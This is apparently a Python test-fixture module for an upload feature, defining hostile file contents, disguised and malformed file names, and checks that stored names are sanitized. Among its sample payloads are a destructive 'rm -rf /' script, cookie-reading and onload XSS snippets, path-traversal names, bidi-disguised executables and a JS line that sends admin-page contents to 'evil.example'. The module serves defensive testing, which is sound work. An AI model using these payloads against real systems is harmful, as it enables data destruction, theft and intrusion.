"""Hostile uploads as classes: file names that try to hide, escape or break (each a template taking the
extension the path expects), names whose real extension disagrees with the content, and contents that
are not what their names say. Used by tests/hostile/test_uploads.py over every upload path, and by
tests/hub/test_uploads.py for the rules themselves."""

import io
import secrets
import unicodedata

# What the brief asks of a stored name (kept here, not imported, so the tests state the rule themselves).
MAX_NAME_LENGTH = 100
RESERVED_NAMES = {"CON", "PRN", "AUX", "NUL"} | {f"{device}{n}" for device in ("COM", "LPT")
                                                for n in (*"0123456789", "\u00b9", "\u00b2", "\u00b3")}

# -- contents ----------------------------------------------------------------------------------------

MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 200
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm" + b"\x00" * 200
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 50
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
ZIP = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\nrm -rf /\n"
JS = b"fetch('/django-admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"


def image(fmt: str = "PNG") -> bytes:
    """A real 4x4 picture (Pillow and Willow open it), in `fmt`."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, fmt)
    return out.getvalue()


# -- names ---------------------------------------------------------------------------------------------

# Names that must be stored safely (or refused with a reason), never kept as they are. "{ext}" is the
# extension the path's content is recognised as; every one of these agrees with it once cleaned.
HOSTILE_NAMES = [
    ("bidi-rlo", "a\u202efdp.{ext}"),
    ("bidi-embeddings", "re\u202apo\u202brt\u202c\u202d.{ext}"),
    ("bidi-isolates", "\u2066hand\u2067out\u2068\u2069.{ext}"),
    ("bidi-marks", "\u200fhandout\u200e\u061c.{ext}"),
    ("zero-width", "hand\u200bout\ufeff\u2060.{ext}"),
    ("soft-hyphen-joiners", "hand\u00adout\u200c\u200d.{ext}"),
    ("c0-controls", "hand\x07out\x1b[31m.{ext}"),
    ("nul-byte", "hand\x00out.{ext}"),
    ("c1-control", "hand\x85out\x9b.{ext}"),
    ("newlines", "hand\nout\r.{ext}"),
    ("line-separators", "hand\u2028out\u2029.{ext}"),
    ("reserved-con", "CON.{ext}"),
    ("reserved-nul-lower", "nul.{ext}"),
    ("reserved-com1", "com1.{ext}"),
    ("reserved-lpt9-double-extension", "LpT9.tar.{ext}"),
    ("reserved-aux-trailing-space", "AUX .{ext}"),
    ("reserved-prn-no-stem", "prn..{ext}"),
    ("reserved-com-superscript", "COM\u00b9.{ext}"),
    ("traversal", "../../../etc/passwd.{ext}"),
    ("absolute", "/etc/cron.d/job.{ext}"),
    ("windows-path", "C:\\Windows\\System32\\evil.{ext}"),
    ("drive-relative", "C:evil.{ext}"),
    ("unc-path", "\\\\server\\share\\evil.{ext}"),
    ("encoded-traversal", "%2e%2e%2f%2e%2e%2fpasswd.{ext}"),
    ("leading-dots", "...hidden.{ext}"),
    ("leading-space-dot", " .bashrc.{ext}"),
    ("leading-dashes", "--help.{ext}"),
    ("trailing-dots-spaces", "talk.{ext}. . ."),
    ("windows-forbidden", "a<b>c:d|e?f*g.{ext}"),
    ("markup", "<img src=x onerror=alert(1)>.{ext}"),
    ("long-300", "a" * 300 + ".{ext}"),
    ("long-unicode", "\u00e9" * 200 + ".{ext}"),
    ("decomposed-nfd", "Jose\u0301 Mari\u0301a.{ext}"),
    ("cjk-only", "\u8b1b\u7fa9.{ext}"),
    ("emoji-only", "\U0001f3a5\U0001f4f9.{ext}"),
    ("only-controls", "\u202e\u200b\u2066.{ext}"),
    ("only-an-extension", ".{ext}"),
    ("upper-case-extension", "Handout.{EXT}"),
]

# Names whose extension, once cleaned, is not the content's: refused on every path, nothing stored.
# "{ext}" is the content's extension, "{rev}" its reverse (what a bidi override shows it as).
DISGUISED_NAMES = [
    ("bidi-shows-ext", "report\u202e{rev}.exe"),
    ("bidi-shows-ext-html", "talk\u202e{rev}.html"),
    ("double-extension-html", "talk.{ext}.html"),
    ("double-extension-svg", "talk.{ext}.svg"),
    ("zero-width-then-js", "talk.{ext}\u200b.js"),
    ("nul-then-html", "talk.{ext}\x00.html"),
    ("zero-width-inside-extension", "talk.h\u200btml"),
    ("homoglyph-extension", "talk.\u0440df"),
    ("no-extension", "talk"),
    ("dot-only", "."),
]

# Extensions a browser renders or runs: MP4 bytes under these names are refused (nginx would serve
# them as a web page, a drawing or a script).
ACTIVE_EXTENSIONS = ["html", "htm", "xhtml", "shtml", "svg", "svgz", "js", "mjs", "xml", "xsl", "php",
                     "css", "txt", "json", "exe"]


def names(table, ext: str) -> list[tuple[str, str]]:
    return [(ident, template.format(ext=ext, EXT=ext.upper(), rev=ext[::-1])) for ident, template in table]


# -- what a stored name must be -------------------------------------------------------------------------

def _is_hidden_char(char: str) -> bool:
    return unicodedata.category(char)[0] == "C" or unicodedata.category(char) in ("Zl", "Zp")


def assert_safe_stored_name(basename: str, *, ext: str) -> None:
    """The last part of a stored path: safe on any file system, and ending in the content's extension."""
    assert basename and "." in basename, f"{basename!r} has no extension"
    assert basename == unicodedata.normalize("NFC", basename), f"{basename!r} is not NFC"
    assert not any(_is_hidden_char(c) for c in basename), f"{basename!r} keeps a control/format character"
    assert not set(basename) & set('/\\:<>|?*" '), f"{basename!r} keeps a path or forbidden character"
    assert basename[0] not in ". -", f"{basename!r} starts with {basename[0]!r}"
    assert basename[-1] not in ". ", f"{basename!r} ends with {basename[-1]!r}"
    assert len(basename) <= MAX_NAME_LENGTH, f"{basename!r} is {len(basename)} characters"
    assert basename.split(".", 1)[0].upper() not in RESERVED_NAMES, f"{basename!r} is a Windows device name"
    assert basename.rsplit(".", 1)[-1] == ext, f"{basename!r} does not end in .{ext}"


def assert_clean_text(text: str) -> None:
    """A name people read: no control or format characters but the two joiners."""
    hidden = [c for c in text if _is_hidden_char(c) and c not in "\u200c\u200d"]
    assert not hidden, f"{text!r} keeps {hidden!r}"
    assert text == unicodedata.normalize("NFC", text), f"{text!r} is not NFC"


# -- raw multipart (the test client would clean the file name before sending it) -------------------------

def multipart(fields: dict, files: dict[str, tuple[str, bytes]]) -> tuple[bytes, str]:
    """A multipart/form-data body with file names exactly as given, and its content type."""
    boundary = "hub-hostile-" + secrets.token_hex(8)
    body = []
    for key, value in fields.items():
        body.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
                    f"{value}\r\n".encode())
    for key, (filename, content) in files.items():
        body.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"; filename="{filename}"\r\n'
                    "Content-Type: application/octet-stream\r\n\r\n".encode("utf-8", "surrogatepass"))
        body.append(content + b"\r\n")
    body.append(f"--{boundary}--\r\n".encode())
    return b"".join(body), f"multipart/form-data; boundary={boundary}"
